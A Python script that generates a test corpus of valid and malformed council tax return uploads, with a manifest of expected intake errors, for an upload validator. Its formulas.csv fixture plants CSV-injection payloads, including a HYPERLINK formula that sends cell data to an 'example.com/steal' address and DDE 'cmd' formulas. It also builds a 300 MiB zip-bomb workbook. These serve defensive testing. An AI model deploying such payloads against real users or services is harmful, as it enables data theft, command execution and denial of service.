"""Regenerate the intake corpus: bad (and good) uploads of a council tax
collection return (standard council-tax-collection v1) for Aberdeen City
(S12000033), period 2023-24, plus MANIFEST.json and README.md.

    .venv/bin/python tests/corpus/make_corpus.py

The output is byte-for-byte the same on every run (fixed ZIP timestamps and
workbook properties), so a diff of the corpus is a real change.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
FIXED_TIME = (2024, 4, 1, 9, 0, 0)
FIXED_DT = dt.datetime(*FIXED_TIME)

HEADER = ["gss_code", "financial_year", "chargeable_dwellings", "net_collectable_gbp",
          "collected_by_year_end_gbp", "in_year_collection_rate_pct"]
ROW = ["S12000033", "2023-24", "111234", "151234567.89", "144567890.12", "95.59"]


def csv_text(rows: list[list[str]], sep: str = ",", eol: str = "\n") -> str:
    return "".join(sep.join(r) + eol for r in rows)


VALID = csv_text([HEADER, ROW])

# ---------------------------------------------------------------- workbooks


def _repack(data: bytes, patch: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    """Rewrite an openpyxl-saved workbook with fixed timestamps (ZIP entries
    and docProps/core.xml) and optional byte substitutions in its parts."""
    patch = patch or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-04-01T09:00:00Z", body)
            if info.filename in patch:
                old, new = patch[info.filename]
                assert old in body, (info.filename, old)
                body = body.replace(old, new)
            entry = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = 0o600 << 16
            target.writestr(entry, body)
    return out.getvalue()


def _save(wb: openpyxl.Workbook, patch: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    wb.properties.creator = "LGDP corpus"
    wb.properties.created = FIXED_DT
    wb.properties.modified = FIXED_DT
    buffer = io.BytesIO()
    wb.save(buffer)
    return _repack(buffer.getvalue(), patch)


def _numbers(row: list[str]) -> list[object]:
    """The row as typed into Excel: codes as text, amounts as numbers (the
    dwelling count stored as the float Excel keeps, 111234.0)."""
    return [row[0], row[1], float(row[2]), float(row[3]), float(row[4]), float(row[5])]


def valid_xlsx() -> bytes:
    """Sheets 'Notes' (first) and 'Data'; the rate is a formula whose cached
    value (what Excel saves) is patched in, as openpyxl cannot compute it."""
    wb = openpyxl.Workbook()
    notes = wb.active
    notes.title = "Notes"
    notes.append(["Council tax collection return, Aberdeen City, 2023-24"])
    notes.append(["Prepared", dt.date(2024, 5, 14)])
    data = wb.create_sheet("Data")
    data.append(HEADER)
    values = _numbers(ROW)
    values[5] = "=ROUND(E2/D2*100,2)"
    data.append(values)
    data["D2"].number_format = "#,##0.00"
    data["E2"].number_format = "#,##0.00"
    return _save(wb, {"xl/worksheets/sheet2.xml": (
        b"<f>ROUND(E2/D2*100,2)</f><v></v>", b"<f>ROUND(E2/D2*100,2)</f><v>95.59</v>")})


def first_visible_xlsx() -> bytes:
    """No sheet named Data: the first sheet is hidden, so 'Return' is read."""
    wb = openpyxl.Workbook()
    hidden = wb.active
    hidden.title = "Lookups"
    hidden.append(["S12000034", "Aberdeenshire"])
    hidden.sheet_state = "hidden"
    ws = wb.create_sheet("Return")
    ws.append(HEADER)
    ws.append(_numbers(ROW))
    return _save(wb)


def uncalculated_xlsx() -> bytes:
    """What a script writing formulas with openpyxl produces: no cached value."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(HEADER)
    values = _numbers(ROW)
    values[5] = "=E2/D2*100"
    ws.append(values)
    return _save(wb)


def empty_sheet_xlsx() -> bytes:
    wb = openpyxl.Workbook()
    wb.active.title = "Data"
    return _save(wb)


def zip_bomb_xlsx() -> bytes:
    """The parts of a workbook, its sheet padded with 300 MiB of blanks
    (valid XML whitespace). bzip2 shrinks that to a few hundred bytes; the
    intake check must refuse it from the ZIP directory alone."""
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    parts = {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            b'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
            b'"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            b'Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><workbook ' + ns + b" " + rel +
            b'><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            b'Target="worksheets/sheet1.xml"/></Relationships>'),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, body in parts.items():
            entry = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(entry, body)
        entry = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=FIXED_TIME)
        entry.compress_type = zipfile.ZIP_BZIP2
        blanks = b" " * (1 << 20)
        with z.open(entry, "w") as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet ' + ns + b"><sheetData>")
            for _ in range(300):
                sheet.write(blanks)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def ole2(stream_names: list[str]) -> bytes:
    """The start of an OLE2 compound file: its signature and header, then a
    directory sector naming the streams (enough for any sniffing; no real
    reader would open it)."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:26] = struct.pack("<H", 0x3E)  # minor version
    header[26:28] = struct.pack("<H", 3)  # major version 3: 512-byte sectors
    header[28:30] = b"\xfe\xff"  # little-endian
    header[30:32] = struct.pack("<H", 9)
    header[32:34] = struct.pack("<H", 6)
    header[48:52] = struct.pack("<I", 0)  # first directory sector
    directory = bytearray()
    for name in ["Root Entry", *stream_names]:
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[0:len(encoded)] = encoded
        entry[64:66] = struct.pack("<H", len(encoded))
        entry[66] = 5 if name == "Root Entry" else 2
        directory += entry
    directory += bytes(512 - len(directory) % 512) if len(directory) % 512 else b""
    return bytes(header) + bytes(directory)


def png_1x1() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


PDF = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
       b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
       b"trailer << /Root 1 0 R >>\n%%EOF\n")

HTML = """<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Sign in - Council Intranet</title>
</head>
<body>
  <h1>Your session has expired</h1>
  <p>Please <a href="/login?next=/reports/council-tax.csv">sign in</a> to download this report.</p>
</body>
</html>
"""

# formulas.csv: the planted cells, by (row number as frictionless counts it,
# field number), and plain numbers that must not be flagged.
FORMULAS_ROWS = [
    HEADER,
    # row 2: a formula in an integer cell; negative and signed numbers
    ["S12000033", "2023-24", "=1+1", "-5", "+3.2", "-0.5e3"],
    # row 3: a cell spanning two lines (one record, frictionless row 3) and
    # a HYPERLINK formula in a number cell
    ["S12000033", "2023-24\n(revised)", "111234",
     '=HYPERLINK("http://example.com/steal?d="&A2,"Click for details")', "-1,234.50", "95.59"],
    # row 4: "+" and "@" formulas
    ["S12000033", "2023-24", "+SUM(1+1)*cmd|' /C calc'!A0", "151234567.89",
     "@SUM(1+1)*cmd|' /C calc'!A0", "-"],
    # row 5: "-" formula and a tab-prefixed formula
    ["S12000033", "2023-24", "111234", "-2+3+cmd|' /C calc'!A0", "144567890.12", "\t=1+2"],
]
FORMULAS_PLANTED = [(2, 3), (3, 4), (4, 3), (4, 5), (5, 4), (5, 6)]


def formulas_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerows(FORMULAS_ROWS)
    return out.getvalue().encode("utf-8")


# ------------------------------------------------------------------ corpus

def build() -> dict[str, bytes]:
    valid = valid_xlsx()
    return {
        "valid.csv": VALID.encode("utf-8"),
        "valid.xlsx": valid,
        "valid-bom.csv": b"\xef\xbb\xbf" + VALID.encode("utf-8"),
        "valid-crlf.csv": csv_text([HEADER, ROW], eol="\r\n").encode("utf-8"),
        "windows-1252.csv": csv_text([HEADER, [*ROW[:3], "£151234567.89", *ROW[4:]]]).encode("cp1252"),
        "utf-16.csv": VALID.encode("utf-16"),
        "semicolon.csv": csv_text([HEADER, ROW], sep=";").encode("utf-8"),
        "tab.csv": csv_text([HEADER, ROW], sep="\t").encode("utf-8"),
        "ragged-rows.csv": csv_text([HEADER, ROW[:5], [*ROW, "see note 3"]]).encode("utf-8"),
        "empty.csv": b"",
        "whitespace-only.csv": b"   \r\n\t\r\n\r\n    \r\n",
        "header-only.csv": csv_text([HEADER]).encode("utf-8"),
        "blank-first-line.csv": ("\n" + VALID).encode("utf-8"),
        "html-disguised.csv": HTML.encode("utf-8"),
        "binary-png.csv": png_1x1(),
        "pdf-disguised.csv": PDF,
        "formulas.csv": formulas_csv(),
        "zip-bomb.xlsx": zip_bomb_xlsx(),
        "corrupt.xlsx": valid[: len(valid) // 2],
        "xls-binary.xls": ole2(["Workbook", "\x05SummaryInformation"]),
        "password-protected.xlsx": ole2(["EncryptionInfo", "EncryptedPackage"]),
        "uncalculated-formula.xlsx": uncalculated_xlsx(),
        "empty-sheet.xlsx": empty_sheet_xlsx(),
        "wrong-gss.csv": csv_text([HEADER, ["S12000034", *ROW[1:]]]).encode("utf-8"),
        "wrong-period.csv": csv_text([HEADER, [ROW[0], "2022-23", *ROW[2:]]]).encode("utf-8"),
        "xlsx-named-csv.csv": first_visible_xlsx(),
        "notes.txt": b"Council tax figures for 2023-24 to follow by email.\n",
    }


# stage: "intake" (inspect_upload raises `code`), "validation" (passes
# intake; frictionless, plus formula_errors, reports `code`; `other_codes`
# are the other error types expected in the same report) or "valid".
MANIFEST = [
    {"file": "valid.csv", "stage": "valid", "code": None, "message_contains": None,
     "description": "A correct return: one row for S12000033, 2023-24."},
    {"file": "valid.xlsx", "stage": "valid", "code": None, "message_contains": None,
     "notes_contain": "sheet 'Data'",
     "description": "The same as an Excel workbook: a 'Notes' sheet first, then 'Data' with "
                    "the rate as a formula with its cached value and the dwellings stored as "
                    "111234.0; converts to exactly valid.csv."},
    {"file": "valid-bom.csv", "stage": "valid", "code": None, "message_contains": None,
     "notes_contain": "byte order mark",
     "description": "valid.csv saved with a UTF-8 byte order mark (Excel's CSV UTF-8): "
                    "passes, the BOM removed with a note."},
    {"file": "valid-crlf.csv", "stage": "valid", "code": None, "message_contains": None,
     "description": "valid.csv with Windows line ends (CRLF): passes unchanged."},
    {"file": "windows-1252.csv", "stage": "intake", "code": "encoding", "status": 400,
     "message_contains": "line 2",
     "description": "Saved as Windows-1252 (Excel's plain 'CSV (Comma delimited)') with a "
                    "'£' (byte 0xA3) on line 2."},
    {"file": "utf-16.csv", "stage": "intake", "code": "encoding", "status": 400,
     "message_contains": "UTF-16",
     "description": "valid.csv saved as UTF-16 with a byte order mark (Excel's 'Unicode Text')."},
    {"file": "semicolon.csv", "stage": "intake", "code": "delimiter", "status": 400,
     "message_contains": "semicolons",
     "description": "Columns separated by ';' (Excel where the list separator is ';')."},
    {"file": "tab.csv", "stage": "intake", "code": "delimiter", "status": 400,
     "message_contains": "tabs",
     "description": "Columns separated by tabs (a TSV file named .csv)."},
    {"file": "ragged-rows.csv", "stage": "validation", "code": "extra-cell",
     "other_codes": ["missing-cell", "constraint-error", "primary-key"],
     "message_contains": "extra value",
     "description": "Row 2 has 5 cells, row 3 has 7: passes intake, validation reports both "
                    "rows (the missing cell is also a required one, and the council and year "
                    "repeat)."},
    {"file": "empty.csv", "stage": "intake", "code": "empty-file", "status": 400,
     "message_contains": "0 bytes", "description": "0 bytes."},
    {"file": "whitespace-only.csv", "stage": "intake", "code": "empty-file", "status": 400,
     "message_contains": "holds no data", "description": "Only blank lines, spaces and tabs."},
    {"file": "header-only.csv", "stage": "valid", "code": None, "message_contains": None,
     "rows_hint": 0,
     "description": "Column names and no data row: passes intake with rows_hint 0, and "
                    "frictionless finds nothing wrong either; whether an empty return is "
                    "acceptable is the caller's rule."},
    {"file": "blank-first-line.csv", "stage": "intake", "code": "header-missing", "status": 400,
     "message_contains": "Line 1 of the file is blank",
     "description": "An empty line above the column names (frictionless would take the "
                    "blank line as the header and report nonsense)."},
    {"file": "html-disguised.csv", "stage": "intake", "code": "html-not-csv", "status": 415,
     "message_contains": "web page",
     "description": "A 'session expired' sign-in page saved instead of the report."},
    {"file": "binary-png.csv", "stage": "intake", "code": "binary-not-csv", "status": 415,
     "message_contains": "PNG image", "description": "A 1x1 PNG image named .csv."},
    {"file": "pdf-disguised.csv", "stage": "intake", "code": "binary-not-csv", "status": 415,
     "message_contains": "PDF document", "description": "A PDF named .csv."},
    {"file": "formulas.csv", "stage": "validation", "code": "csv-injection",
     "other_codes": ["type-error", "constraint-error", "primary-key"],
     "message_contains": "starts like a spreadsheet formula",
     "planted": [list(p) for p in FORMULAS_PLANTED],
     "description": "Cells starting with =, +, -, @ and a tab (planted at the rowNumber/"
                    "fieldNumber pairs in 'planted'), a quoted cell spanning two lines, and "
                    "plain numbers -5, +3.2, -0.5e3, -1,234.50 and a lone '-' that must not "
                    "be flagged."},
    {"file": "zip-bomb.xlsx", "stage": "intake", "code": "xlsx-bomb", "status": 400,
     "message_contains": "would expand to",
     "description": "A workbook of a few KB whose sheet expands to 300 MiB (bzip2-compressed "
                    "blanks); refused from the ZIP directory, nothing is decompressed."},
    {"file": "corrupt.xlsx", "stage": "intake", "code": "xlsx-invalid", "status": 400,
     "message_contains": "damaged",
     "description": "valid.xlsx cut in half (as an interrupted download leaves it)."},
    {"file": "xls-binary.xls", "stage": "intake", "code": "xlsx-invalid", "status": 400,
     "message_contains": "Excel 97-2003",
     "description": "An old-format .xls (OLE2 compound file with a 'Workbook' stream)."},
    {"file": "password-protected.xlsx", "stage": "intake", "code": "xlsx-invalid",
     "status": 400, "message_contains": "password",
     "description": "What Excel saves for a workbook encrypted with a password: an OLE2 "
                    "file with 'EncryptionInfo' and 'EncryptedPackage' streams."},
    {"file": "uncalculated-formula.xlsx", "stage": "intake", "code": "xlsx-uncalculated",
     "status": 400, "message_contains": "Cell F2",
     "description": "Written by a script (openpyxl): F2 holds =E2/D2*100 with no cached value."},
    {"file": "empty-sheet.xlsx", "stage": "intake", "code": "xlsx-empty", "status": 400,
     "message_contains": "is empty", "description": "A workbook whose only sheet, 'Data', is empty."},
    {"file": "wrong-gss.csv", "stage": "validation", "code": "constraint-error",
     "message_contains": "S12000034",
     "description": "A valid return for Aberdeenshire (S12000034) uploaded for Aberdeen City: "
                    "passes intake; the enum the caller adds to gss_code flags it."},
    {"file": "wrong-period.csv", "stage": "validation", "code": "constraint-error",
     "message_contains": "2022-23",
     "description": "Last year's return (2022-23): passes intake; the enum on financial_year "
                    "flags it."},
    {"file": "xlsx-named-csv.csv", "stage": "valid", "code": None, "message_contains": None,
     "notes_contain": "named .csv",
     "description": "A real workbook named .csv: read as a workbook (noted); its first sheet "
                    "is hidden, so the first visible one, 'Return', is converted."},
    {"file": "notes.txt", "stage": "intake", "code": "unsupported-format", "status": 415,
     "message_contains": ".txt", "description": "A text file: only .csv and .xlsx are accepted."},
    {"file": None, "stage": "intake", "code": "too-large", "status": 413, "max_bytes": 100,
     "use_file": "valid.csv", "message_contains": "over the",
     "description": "No file of its own: upload valid.csv (about 180 bytes) with max_bytes "
                    "set to 100."},
]


def main() -> int:
    files = build()
    names = {m["file"] for m in MANIFEST if m["file"]}
    assert names == set(files), names ^ set(files)
    for name, body in files.items():
        (HERE / name).write_bytes(body)
    (HERE / "MANIFEST.json").write_text(json.dumps(MANIFEST, indent=2, ensure_ascii=False) + "\n",
                                        encoding="utf-8")
    lines = [
        "# Intake corpus",
        "",
        "Uploads of a council tax collection return (standard "
        "`council-tax-collection.v1`) for Aberdeen City (S12000033), 2023-24, each "
        "showing one kind of bad (or good) input. Regenerate with "
        "`.venv/bin/python tests/corpus/make_corpus.py`; `MANIFEST.json` says what each "
        "should produce and `tests/test_intake.py` checks it.",
        "",
        "`hostile.py` generates, at test time, a further 113 mean cases over three "
        "standards (blanks in one-row returns, header variants, numeric extremes, wide "
        "and long files, period edges); `tests/test_hostile_corpus.py` pushes them "
        "through the upload API.",
        "",
    ]
    for m in MANIFEST:
        what = m["code"] or "passes"
        name = f"`{m['file']}`" if m["file"] else f"(no file: max_bytes={m['max_bytes']})"
        lines.append(f"- {name} [{m['stage']}: {what}]: {m['description']}")
    (HERE / "README.md").write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(files)} files to {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
